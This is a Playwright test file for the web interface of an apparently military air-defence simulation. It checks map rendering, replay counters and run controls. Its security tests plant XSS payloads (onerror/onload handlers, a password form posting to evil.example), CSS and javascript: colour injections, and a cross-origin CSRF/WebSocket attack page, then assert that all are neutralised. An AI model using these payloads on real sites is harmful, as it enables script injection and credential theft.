"""The browser interface in Debian's headless Chromium, driven by Playwright.

Skipped when /usr/bin/chromium is missing; ``.ci/run`` installs it. Screenshots go to
``test-artifacts/`` as test artefacts. The server is ``iamd serve``'s own configuration
(:func:`iamd.web.server.uvicorn_config`) on a real socket.
"""

from __future__ import annotations

import json
import shutil
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import uvicorn
import yaml
from flights import flights as flights_of

from iamd.web.app import Settings, create_app
from iamd.web.server import bind, uvicorn_config

CHROMIUM = "/usr/bin/chromium"
ARTIFACTS = Path(__file__).resolve().parent.parent / "test-artifacts"
pytestmark = pytest.mark.skipif(
    not Path(CHROMIUM).exists(), reason="Debian's chromium is not installed (.ci/run installs it)"
)
MARK_KINDS = ("intercept", "impact_asset", "miss")
MARK_FADE_S = 300.0  # app.js: markers fade out over this much simulation time
# names a hostile run directory gives to everything the page shows
EVIL = {
    "national": "<img src=x onerror=alert(1)>",
    "rocket_short": '<form action="https://evil.example/"><input type=password name=pw>',
    "short_range": "<img src=x onerror=alert(2)>",
    "Border Town": "<form action=/steal><input type=password></form>",
    "sr-border": "<b onmouseover=alert(3)>sr</b>",
    "fcr-north": "<svg onload=alert(4)>",
}
EVIL_COLOUR = '#fff;background:url(x)" onmouseover="alert(5)'
HOSTILE_SELECTOR = "form, img, input[type=password], [onerror], [onload], [onmouseover]"


def _rename(x: Any) -> Any:
    if isinstance(x, dict):
        return {EVIL.get(k, k): _rename(v) for k, v in x.items()}
    if isinstance(x, list):
        return [_rename(v) for v in x]
    return EVIL.get(x, x) if isinstance(x, str) else x


def _rename_columns(path: Path, columns: tuple[str, ...]) -> None:
    table = pq.read_table(path)
    for c in columns:
        if c in table.column_names:
            values = [EVIL.get(v, v) for v in table[c].cast(pa.string()).to_pylist()]
            table = table.set_column(table.column_names.index(c), c, pa.array(values, pa.string()))
    pq.write_table(table, path)


def hostile_run(src: Path, dst: Path) -> None:
    """A copy of run ``src`` whose names are markup (as a hand-edited directory could be)."""
    shutil.copytree(src, dst)
    sc = _rename(yaml.safe_load((dst / "scenario.yaml").read_text()))
    sc["owners"][0]["colour"] = EVIL_COLOUR
    for name, spec in sc["catalog"]["threats"].items():
        spec["label"] = name  # the legend shows the catalog's label
    (dst / "scenario.yaml").write_text(yaml.safe_dump(sc, allow_unicode=True))
    (dst / "summary.json").write_text(
        json.dumps(_rename(json.loads((dst / "summary.json").read_text())))
    )
    _rename_columns(dst / "truth.parquet", ("class",))
    _rename_columns(dst / "events.parquet", ("unit", "owner", "interceptor"))
    _rename_columns(dst / "tracks.parquet", ("owner",))


def hostile_stores(runs: Path) -> None:
    """A Monte Carlo store and a sweep whose metric names and values are markup."""
    store = runs / "mc-evil"
    (store / "batches").mkdir(parents=True)
    owner = f"by_owner.{EVIL['national']}.fired"
    for k in range(3):
        table = pa.table({"run": [k], "threats.impacted_asset": [float(k)], owner: [10.0 + k]})
        pq.write_table(table, store / "batches" / f"runs-{k:07d}-{k:07d}-n1.parquet")
    (store / "job.json").write_text("{}")
    stats = {"n": EVIL["sr-border"], "mean": EVIL["Border Town"], "p5": 1}
    (store / "summary.json").write_text(json.dumps({"metrics": {owner: stats}}))
    path = f"fire_units.{EVIL['sr-border']}.rounds"
    points = [
        {
            "values": {path: v},
            "metrics": {owner: {"mean": m, "ci95_low": m - 1, "ci95_high": m + 1}},
        }
        for v, m in ((4, 1.0), (EVIL["fcr-north"], 2.0), (20, 3.0))
    ]
    (runs / "sweep-evil").mkdir()
    (runs / "sweep-evil" / "sweep.json").write_text(json.dumps({"paths": [path], "points": points}))


@pytest.fixture(scope="module")
def runs_dir(tmp_path_factory: pytest.TempPathFactory, northern_run: Path) -> Path:
    from typer.testing import CliRunner

    from iamd.cli import app

    runs = tmp_path_factory.mktemp("web") / "runs"
    runs.mkdir()
    res = CliRunner().invoke(
        app,
        ["mc", "northern-front", "--runs", "4", "--workers", "1",
         "--out", str(runs / "mc-north"), "-q"],
    )  # fmt: skip
    assert res.exit_code == 0, res.output
    res = CliRunner().invoke(
        app,
        ["sweep", "northern-front", "--vary", "fire_units.sr-border.rounds=4,20", "--runs", "2",
         "--out", str(runs / "sweep-north"), "--workers", "1", "-q"],
    )  # fmt: skip
    assert res.exit_code == 0, res.output
    hostile_run(northern_run, runs / "evil")
    hostile_stores(runs)
    shutil.copytree(northern_run, runs / "north")
    return runs


class Recorder:
    """ASGI wrapper in front of the whole application: what reached the server, answered how."""

    def __init__(self, app: Any) -> None:
        self.app = app
        self.seen: list[tuple[str, str, int]] = []

    async def __call__(self, scope: Any, receive: Any, send: Any) -> None:
        if scope["type"] not in ("http", "websocket"):
            await self.app(scope, receive, send)
            return

        async def record(message: Any) -> None:
            if message["type"] == "http.response.start":
                self.seen.append((scope["method"], scope["path"], message["status"]))
            elif message["type"] in ("websocket.close", "websocket.accept"):
                self.seen.append(("WS", scope["path"], message.get("code", 101)))
            await send(message)

        await self.app(scope, receive, record)


@dataclass
class Served:
    url: str
    app: Any
    recorder: Recorder


def _start(app: Any, sock: Any) -> tuple[uvicorn.Server, threading.Thread]:
    srv = uvicorn.Server(uvicorn_config(app))
    thread = threading.Thread(target=srv.run, kwargs={"sockets": [sock]}, daemon=True)
    thread.start()
    deadline = time.monotonic() + 30
    while not srv.started:
        assert time.monotonic() < deadline, "the server did not start"
        time.sleep(0.05)
    return srv, thread


@pytest.fixture(scope="module")
def served(runs_dir: Path) -> Iterator[Served]:
    sock = bind("127.0.0.1", 0)
    port = int(sock.getsockname()[1])
    app = create_app(Settings(runs_dir=runs_dir, max_runs=2, port=port))
    recorder = Recorder(app)
    srv, thread = _start(recorder, sock)
    yield Served(f"http://127.0.0.1:{port}", app, recorder)
    srv.should_exit = True
    thread.join(timeout=30)


@pytest.fixture(scope="module")
def server(served: Served) -> str:
    return served.url


@pytest.fixture(scope="module")
def browser() -> Iterator[object]:
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        b = p.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        yield b
        b.close()


@pytest.fixture
def page(browser, server: str):
    # bypass_csp: Playwright's wait_for_function evaluates strings, which our CSP forbids
    # (test_the_page_works_under_its_own_csp runs without it)
    context = browser.new_context(viewport={"width": 1280, "height": 800}, bypass_csp=True)
    pg = context.new_page()
    errors: list[str] = []
    dialogs: list[str] = []
    pg.on("pageerror", lambda e: errors.append(str(e)))
    pg.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    pg.goto(server + "/")
    pg.wait_for_function("window.iamd && window.iamd.ready && window.iamd.loaded", timeout=60_000)
    pg.evaluate("iamd.loadReplay('north')")  # the newest run is shown first; test this one
    pg.wait_for_function("iamd.loaded === 'north'", timeout=60_000)
    yield pg
    context.close()
    assert errors == [], errors
    assert dialogs == [], dialogs


def _events(run_dir: Path) -> tuple[np.ndarray, list[str], np.ndarray]:
    ev = pq.read_table(run_dir / "events.parquet")
    return ev["t_s"].to_numpy(), ev["kind"].cast("string").to_pylist(), ev["value"].to_numpy()


def _quiet_time(t: float, times: np.ndarray, *shifts: float) -> float:
    """A time near ``t`` more than 0.2 s (twice the replay's rounding) from every event,
    also when shifted by each of ``shifts``."""
    while any(np.min(np.abs(times - (t - s))) < 0.2 for s in (0.0, *shifts)):
        t += 0.31
    return t


def test_map_renders_borders_assets_and_units(page) -> None:
    assert page.evaluate("iamd.bordersDrawn") is True
    for layer in ("land", "borders", "assets", "units"):
        n = page.evaluate(f"iamd.map.queryRenderedFeatures({{layers: ['{layer}']}}).length")
        assert n > 0, layer
    doc = page.evaluate("iamd.replay.doc.layout")
    units = page.evaluate("iamd.map.queryRenderedFeatures({layers: ['units']})")
    assert {u["properties"]["name"] for u in units} == {u["name"] for u in doc["units"]}
    # radar coverage rings reach beyond the theatre: zoom out to see them drawn
    rings = page.evaluate(
        """new Promise((done) => {
            const query = () => iamd.map.queryRenderedFeatures({layers: ["coverage"]});
            iamd.map.once("idle", () => done(query()));
            iamd.map.jumpTo({zoom: 4});
        })"""
    )
    assert {r["properties"]["name"] for r in rings} == {s["name"] for s in doc["sensors"]}
    first_paint_ms = page.evaluate("iamd.mapLoadedMs")
    print(f"first paint of the map: {first_paint_ms:.0f} ms")  # reported, not asserted
    ARTIFACTS.mkdir(exist_ok=True)
    page.screenshot(path=str(ARTIFACTS / "map.png"))


def test_replay_moves_threats_and_counts_like_the_log(page, northern_run: Path) -> None:
    t_ev, kinds, value = _events(northern_run)
    fire = np.array(kinds) == "launch_interceptor"
    t = _quiet_time(float(np.median(t_ev[fire])) + 0.37, t_ev)  # in the thick of it
    page.evaluate(f"iamd.setTime({t})")
    before = {p["id"]: (p["x"], p["y"]) for p in page.evaluate("iamd.positions()")}
    assert before, "no threat airborne at the chosen time"
    upto = t_ev <= t
    expect = {
        "c-launched": int(np.sum(upto & (np.array(kinds) == "launch"))),
        "c-intercepted": int(np.sum(upto & (np.array(kinds) == "intercept"))),
        "c-leaked": int(np.sum(upto & (np.array(kinds) == "impact_asset"))),
        "c-fired": int(value[fire & upto].sum()),  # rounds, not launch events
    }
    assert expect["c-fired"] > int(np.sum(fire & upto)), "no salvo yet: the check would be weak"
    for cid, n in expect.items():
        assert page.inner_text(f"#{cid}") == str(n), cid
    page.evaluate(f"iamd.setTime({t + 30})")
    after = {p["id"]: (p["x"], p["y"]) for p in page.evaluate("iamd.positions()")}
    moved = [i for i in before.keys() & after.keys() if before[i] != after[i]]
    assert moved, "no threat moved in 30 s"
    assert int(page.inner_text("#c-fired")) >= expect["c-fired"]
    # clicking a threat shows its history and highlights it
    tid = moved[0]
    x, y = after[tid]
    box = page.locator("#map").bounding_box()
    page.mouse.click(box["x"] + x, box["y"] + y)
    assert f"threat {tid}" in page.inner_text("#threat-info")
    assert page.evaluate("iamd.selected") == tid
    # play advances the clock
    page.evaluate("iamd.play(true)")
    page.wait_for_function(f"iamd.t > {t + 31}", timeout=10_000)
    page.evaluate("iamd.play(false)")
    ARTIFACTS.mkdir(exist_ok=True)
    page.screenshot(path=str(ARTIFACTS / "replay.png"))


def test_counters_at_the_end_equal_the_summary(page, northern_run: Path) -> None:
    summary = json.loads((northern_run / "summary.json").read_text())
    page.evaluate("iamd.setTime(1e9)")  # clamped to the end of the run
    fired = sum(v["fired"] for v in summary["interceptors"].values())
    assert page.inner_text("#c-fired") == str(fired)
    cost = page.evaluate("iamd.replay.cost[iamd.replay.cost.length - 1]")
    assert cost == summary["cost_usd"]["interceptors"]
    assert page.inner_text("#c-cost") == f"${cost / 1e6:.1f} M"
    for name, rec in summary["interceptors"].items():
        assert page.inner_text(f'#c-interceptors td[data-interceptor="{name}"]') == str(
            rec["fired"]
        )
    assert page.inner_text("#c-launched") == str(summary["threats"]["launched"])
    assert page.inner_text("#c-intercepted") == str(summary["threats"]["intercepted"])


def test_legend_names_and_fading_markers(page, northern_run: Path) -> None:
    from iamd.viz.palette import THREAT_CLASS_COLOURS

    truth = pq.read_table(northern_run / "truth.parquet")
    classes = set(truth["class"].cast("string").to_pylist())
    shown = page.eval_on_selector_all(
        "#legend span[data-class]",
        "els => els.map(e => [e.dataset.class,"
        " getComputedStyle(e.querySelector('i')).backgroundColor])",
    )
    assert {c for c, _ in shown} == classes
    for c, rgb in shown:
        h = THREAT_CLASS_COLOURS[c]
        assert rgb == f"rgb({int(h[1:3], 16)}, {int(h[3:5], 16)}, {int(h[5:7], 16)})", c
    # names of assets, fire units and radars, with a toggle; none drawn over another
    layout = page.evaluate("iamd.replay.doc.layout")
    n_names = len(layout["assets"]) + len(layout["units"]) + len(layout["sensors"])
    shown_names = page.evaluate("iamd.visibleLabels")
    assert 0 < shown_names <= n_names
    boxes = page.evaluate("iamd.labelBoxes")
    for i, a in enumerate(boxes):
        for b in boxes[i + 1 :]:
            assert not (a[0] < b[2] and b[0] < a[2] and a[1] < b[3] and b[1] < a[3]), (a, b)
    page.uncheck("#show-names")
    assert page.evaluate("iamd.visibleLabels") == 0
    page.check("#show-names")
    assert page.evaluate("iamd.visibleLabels") == shown_names
    page.evaluate("iamd.map.jumpTo({zoom: iamd.map.getZoom() + 4})")  # room for more names
    page.wait_for_function(f"iamd.visibleLabels >= {shown_names}")
    # event markers older than the fade time are gone
    t_ev, kinds, _ = _events(northern_run)
    t_mark = t_ev[np.isin(np.array(kinds), MARK_KINDS)]
    t = _quiet_time(float(np.quantile(t_mark, 0.9)), t_mark, MARK_FADE_S)
    page.evaluate(f"iamd.setTime({t})")
    recent = int(np.sum((t_mark <= t) & (t_mark > t - MARK_FADE_S)))
    assert recent < int(np.sum(t_mark <= t)), "every marker is recent: the check would be weak"
    assert page.evaluate("iamd.visibleMarks") == recent


PROJECT = "(p) => iamd.map.project(p)"  # (lon, lat) to pixels of the map


def test_flyouts_are_drawn_along_their_flown_paths(page, northern_run: Path) -> None:
    """Each interceptor in flight is drawn where its recorded flight (interceptors.parquet,
    interpolated at the clock) puts it, not on the straight line from launch to end."""
    flights = flights_of(northern_run)  # (t_s, lat, lon, alt) rows
    t_ev, kinds, _ = _events(northern_run)
    launches = t_ev[np.array(kinds) == "launch_interceptor"]
    t = _quiet_time(float(np.median(launches)) + 5.37, t_ev)
    airborne = {e for e, g in flights.items() if g[0, 0] < t < g[-1, 0]}
    assert len(airborne) >= 3, "few interceptors in flight: the check would be weak"
    first = flights[min(airborne)]
    centre = [float(np.interp(t, first[:, 0], first[:, c])) for c in (2, 1)]
    page.evaluate("(c) => iamd.map.jumpTo({center: c, zoom: 9})", centre)
    page.evaluate(f"iamd.setTime({t})")
    heads = {h["engagement"]: (h["x"], h["y"]) for h in page.evaluate("iamd.flyoutHeads")}
    assert airborne <= set(heads)
    off_line = 0.0
    for e in airborne:
        g = flights[e]
        lon, lat = (float(np.interp(t, g[:, 0], g[:, c])) for c in (2, 1))
        at = page.evaluate(PROJECT, [lon, lat])
        assert np.hypot(at["x"] - heads[e][0], at["y"] - heads[e][1]) < 1.5, e
        w = (t - g[0, 0]) / (g[-1, 0] - g[0, 0])
        a, b = g[0], g[-1]
        line = [float(a[c] + w * (b[c] - a[c])) for c in (2, 1)]
        at = page.evaluate(PROJECT, line)
        off_line = max(off_line, float(np.hypot(at["x"] - heads[e][0], at["y"] - heads[e][1])))
    assert off_line > 5.0, "the straight line would have passed too"
    ARTIFACTS.mkdir(exist_ok=True)
    page.screenshot(path=str(ARTIFACTS / "flyouts.png"))


def test_space_bar_plays_after_a_click_on_the_map(page) -> None:
    page.evaluate("iamd.play(false)")
    box = page.locator("#map").bounding_box()
    page.mouse.click(box["x"] + box["width"] * 0.8, box["y"] + box["height"] * 0.5)
    assert page.evaluate("document.activeElement !== document.body")  # the map has the focus
    page.keyboard.press("Space")
    assert page.evaluate("iamd.playing") is True
    page.keyboard.press("Space")
    assert page.evaluate("iamd.playing") is False
    page.click("#tab-run")
    page.click("#seed")  # typing a space in a field is not play
    page.keyboard.press("Space")
    assert page.evaluate("iamd.playing") is False


def _upload(page, name: str, content: bytes) -> None:
    page.set_input_files(
        "#upload", files=[{"name": name, "mimeType": "text/yaml", "buffer": content}]
    )
    page.wait_for_function(
        "iamd.runTab.upload && iamd.runTab.upload.valid !== null", timeout=30_000
    )


def test_invalid_upload_shows_line_numbered_error(page) -> None:
    page.click("#tab-run")
    _upload(page, "bad.yaml", b"name: bad\nduration_s: -5\nowners: []\n")
    text = page.inner_text("#problems")
    assert "bad.yaml:line 2:" in text
    assert page.is_disabled("#start-run")
    assert page.is_checked("#source-upload")
    ARTIFACTS.mkdir(exist_ok=True)
    page.screenshot(path=str(ARTIFACTS / "upload-error.png"))


def _start_and_cancel(page, server: str) -> str:
    """Click Start, then Cancel; the name of the run that was started (and cancelled)."""
    page.click("#start-run")
    page.wait_for_function(
        "iamd.live && !iamd.live.ended && !document.getElementById('cancel-run').disabled"
    )
    run = str(page.evaluate("iamd.live.run"))
    page.click("#cancel-run")
    page.wait_for_function("iamd.live.cancelled === true", timeout=60_000)
    assert page.is_enabled("#start-run") and page.is_disabled("#cancel-run")
    listed = page.evaluate("fetch('/api/runs').then((r) => r.json())")
    assert run not in {r["name"] for r in listed}  # nothing of the cancelled run is left
    return run


def test_start_runs_the_scenario_shown(page, server: str) -> None:
    from iamd.scenario.load import resolve_scenario_path

    page.click("#tab-run")
    # an invalid upload, then a bundled scenario: Start runs the bundled one, as shown
    _upload(page, "bad.yaml", b"name: bad\nduration_s: -5\n")
    assert page.is_disabled("#start-run")
    assert "bad.yaml is not valid" in page.inner_text("#run-choice")
    page.select_option("#scenario-select", "regional-raid")
    assert page.is_checked("#source-bundled")
    assert page.inner_text("#run-choice") == "Start runs the bundled scenario regional-raid"
    assert page.inner_text("#problems") == ""  # the upload's errors are not this run's
    assert _start_and_cancel(page, server).startswith("web-regional-raid-")
    # a valid upload, then another bundled scenario: the bundled one runs
    text, _ = resolve_scenario_path("northern-front")
    _upload(page, "mine.yaml", text.encode())
    assert page.is_checked("#source-upload") and page.is_enabled("#start-run")
    assert page.inner_text("#run-choice") == "Start runs the uploaded file mine.yaml"
    page.select_option("#scenario-select", "southern-front")
    assert page.inner_text("#run-choice") == "Start runs the bundled scenario southern-front"
    assert _start_and_cancel(page, server).startswith("web-southern-front-")
    # and back to the upload, which is what runs then
    page.check("#source-upload")
    assert page.inner_text("#run-choice") == "Start runs the uploaded file mine.yaml"
    assert _start_and_cancel(page, server).startswith("web-upload-")
    assert "run cancelled" in page.inner_text("#status")


def test_run_from_the_browser_live_then_replay(page) -> None:
    page.click("#tab-run")
    page.select_option("#scenario-select", "northern-front")
    page.fill("#seed", "21")
    page.click("#start-run")
    page.wait_for_function("iamd.live && iamd.live.done === true", timeout=120_000)
    run = page.evaluate("iamd.live.run")
    page.wait_for_function(f"iamd.loaded === '{run}'", timeout=60_000)
    assert page.evaluate("iamd.live.counts.launch") > 0
    summary = page.evaluate(f"fetch('/api/runs/{run}/files/summary.json').then((r) => r.json())")
    assert page.evaluate("iamd.live.rounds") == sum(
        v["fired"] for v in summary["interceptors"].values()
    )


def _axes(page, svg: str) -> tuple[int, int, list[str]]:
    x = page.locator(f"{svg} .tick-label.x").count()
    y = page.locator(f"{svg} .tick-label.y").count()
    labels = page.eval_on_selector_all(f"{svg} .axis-label", "els => els.map(e => e.textContent)")
    return x, y, labels


def test_monte_carlo_view(page, runs_dir: Path) -> None:
    page.click("#tab-mc")
    page.select_option("#mc-select", "mc-north")
    page.wait_for_selector("#mc-hist rect")
    metric = page.input_value("#mc-metric")
    batches = pa.concat_tables(
        [pq.read_table(f) for f in sorted((runs_dir / "mc-north" / "batches").glob("*.parquet"))]
    )
    values = batches[metric].to_pylist()
    assert len(set(values)) > 1, f"the view opened on {metric}, which does not vary"
    if len(set(batches["threats.impacted_asset"].to_pylist())) > 1:
        assert metric == "threats.impacted_asset"
    assert "mean" in page.inner_text("#mc-stats")
    assert page.locator("#mc-hist rect").count() >= 1
    assert page.locator("#mc-conv path.mean").count() == 1
    for svg, ylabel in (("#mc-hist", "runs"), ("#mc-conv", "mean leakers on assets")):
        nx, ny, labels = _axes(page, svg)
        assert nx >= 2 and ny >= 2, svg
        assert ylabel in labels, (svg, labels)
    page.select_option("#mc-metric", "totals.interceptors_fired")
    assert "interceptors fired" in page.inner_text("#mc-stats")
    assert "interceptors fired" in _axes(page, "#mc-hist")[2]


def test_sweep_view(page, runs_dir: Path) -> None:
    sweep = json.loads((runs_dir / "sweep-north" / "sweep.json").read_text())
    metrics = {m for p in sweep["points"] for m in p["metrics"]}
    page.click("#tab-mc")
    page.select_option("#mc-select", "sweep-north")
    page.wait_for_selector("#mc-hist.sweep-curve circle")
    options = page.eval_on_selector_all("#mc-metric option", "els => els.map(e => e.value)")
    assert set(options) == metrics
    assert page.locator("#mc-hist circle").count() == len(sweep["points"])  # 4 and 20 rounds
    nx, ny, labels = _axes(page, "#mc-hist")
    assert nx >= 2 and ny >= 2 and "fire_units.sr-border.rounds" in labels
    assert "sweep of 2 points" in page.inner_text("#mc-stats")
    other = next(m for m in options if m != page.input_value("#mc-metric"))
    page.select_option("#mc-metric", other)
    assert page.get_attribute("#mc-hist", "data-metric") == other
    assert page.locator("#mc-sweep tr").count() == 1 + len(sweep["points"])


def test_hostile_names_render_as_text(page) -> None:
    before = page.locator(HOSTILE_SELECTOR).count()
    page.evaluate("iamd.loadReplay('evil')")
    page.wait_for_function("iamd.loaded === 'evil'")
    doc = page.evaluate("iamd.replay.doc.flyouts")
    tid = doc["threat"][doc["interceptor"].index(EVIL["short_range"])]
    page.evaluate(f"iamd.setTime(1e9); iamd.showThreat({tid})")
    legend, info = page.inner_text("#legend"), page.inner_text("#threat-info")
    assert EVIL["national"] in legend and EVIL["rocket_short"] in legend
    assert EVIL["short_range"] in info
    assert EVIL["short_range"] in page.inner_text("#c-interceptors")
    # the owner's colour was not #rrggbb: its swatch has the fallback colour
    swatch = page.eval_on_selector(
        "#legend span:nth-child(2) i", "e => getComputedStyle(e).backgroundColor"
    )
    assert swatch == "rgb(31, 119, 180)"
    page.click("#tab-mc")
    page.select_option("#mc-select", "mc-evil")
    page.wait_for_selector("#mc-hist rect")
    page.select_option("#mc-metric", f"by_owner.{EVIL['national']}.fired")
    assert EVIL["sr-border"] in page.inner_text("#mc-stats")
    page.select_option("#mc-select", "sweep-evil")
    page.wait_for_selector("#mc-hist.sweep-curve")
    assert EVIL["fcr-north"] in page.inner_text("#mc-sweep")
    assert page.locator(HOSTILE_SELECTOR).count() == before == 0
    ARTIFACTS.mkdir(exist_ok=True)
    page.screenshot(path=str(ARTIFACTS / "hostile-names.png"))


def test_colours_are_checked_in_the_page_too(page) -> None:
    """A replay document with colours that are not #rrggbb (as an older or another server
    could send) draws with fallbacks and creates nothing from them."""

    def bad_colours(route: Any) -> None:
        doc = route.fetch().json()
        doc["class_colours"] = {c: 'red" onmouseover="alert(6)' for c in doc["class_colours"]}
        for o in doc["layout"]["owners"]:
            o["colour"] = "url(javascript:alert(7))"
        doc["layout"]["fate_colours"] = {f: "<img src=x>" for f in doc["layout"]["fate_colours"]}
        route.fulfill(json=doc)

    page.route("**/api/runs/north/replay", bad_colours)
    page.evaluate("iamd.loaded = null; iamd.loadReplay('north')")
    page.wait_for_function("iamd.loaded === 'north'")
    page.evaluate("iamd.setTime(1800)")
    colours = page.evaluate(
        "[...Object.values(iamd.replay.classColours), ...Object.values(iamd.replay.colour),"
        " ...Object.values(iamd.replay.fateColours)]"
    )
    assert colours and all(len(c) == 7 and c.startswith("#") for c in colours)
    swatches = page.eval_on_selector_all(
        "#legend i", "els => els.map(e => getComputedStyle(e).backgroundColor)"
    )
    assert all(s.startswith("rgb") for s in swatches)
    assert page.locator(HOSTILE_SELECTOR).count() == 0


def _poll(check: Callable[[], Any], timeout_s: float = 60.0) -> Any:
    deadline = time.monotonic() + timeout_s
    while not (value := check()):
        assert time.monotonic() < deadline, "timed out"
        time.sleep(0.1)
    return value


def test_the_page_works_under_its_own_csp(browser, server: str) -> None:
    context = browser.new_context(viewport={"width": 1280, "height": 800})
    pg = context.new_page()
    violations: list[str] = []
    pg.on(
        "console",
        lambda m: violations.append(m.text) if "Content Security Policy" in m.text else None,
    )
    pg.goto(server + "/")
    _poll(lambda: pg.evaluate("Boolean(window.iamd && iamd.ready && iamd.loaded)"))
    assert violations == []
    # the page's own WebSocket origin is allowed ...
    reply = pg.evaluate(
        """() => new Promise((done) => {
            const ws = new WebSocket(`ws://${location.host}/api/live/nope`);
            ws.onmessage = (m) => done(m.data); ws.onerror = () => done("error");
        })"""
    )
    assert json.loads(reply) == {"type": "error", "message": "no such job"}
    assert violations == []
    # ... any other is not (connect-src is not a bare ws:)
    blocked = pg.evaluate(
        """() => new Promise((done) => {
            document.addEventListener("securitypolicyviolation", (e) => done(e.effectiveDirective));
            try { new WebSocket("ws://127.0.0.1:9/x"); } catch (err) { done(err.name); }
        })"""
    )
    assert blocked in ("connect-src", "SecurityError")
    context.close()


ATTACK = """<!doctype html><title>cat pictures</title><script>
const target = "%s", out = {};
fetch(target + "/api/runs", {method: "POST", mode: "no-cors",
  headers: {"Content-Type": "text/plain"},
  body: JSON.stringify({scenario: "northern-front"})}).then(() => { out.noCors = "sent"; },
  (e) => { out.noCors = String(e); });
fetch(target + "/api/runs", {method: "POST", headers: {"Content-Type": "application/json"},
  body: JSON.stringify({scenario: "northern-front"})}).then(() => { out.cors = "sent"; },
  (e) => { out.cors = "blocked"; });
const ws = new WebSocket(target.replace("http", "ws") + "/api/live/nope");
ws.onmessage = (m) => { out.ws = m.data; }; ws.onerror = () => { out.ws = "refused"; };
window.out = out;
</script>"""


def test_a_page_on_another_origin_cannot_start_a_run(browser, served: Served) -> None:
    """The tester's attack: a page elsewhere POSTs with no-cors (text/plain) and opens the
    WebSocket. The requests reach the server (recorded in front of it) and are refused."""
    import http.server

    page_html = (ATTACK % served.url).encode()

    class Attacker(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(page_html)

        def log_message(self, *args: Any) -> None:
            pass

    evil = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Attacker)
    threading.Thread(target=evil.serve_forever, daemon=True).start()
    start, jobs = len(served.recorder.seen), set(served.app.state.runner.jobs)
    context = browser.new_context()
    pg = context.new_page()
    pg.goto(f"http://localhost:{evil.server_address[1]}/")  # another origin (and site)
    out = _poll(lambda: (o := pg.evaluate("window.out")) and len(o) == 3 and o)
    context.close()
    evil.shutdown()
    seen = served.recorder.seen[start:]
    posts = [status for method, path, status in seen if (method, path) == ("POST", "/api/runs")]
    assert posts and all(status in (403, 415) for status in posts), seen
    assert ("WS", "/api/live/nope", 1008) in seen and out["ws"] == "refused"
    assert out["cors"] == "blocked"  # the JSON request needs a preflight nobody answers
    assert set(served.app.state.runner.jobs) == jobs  # no run was started
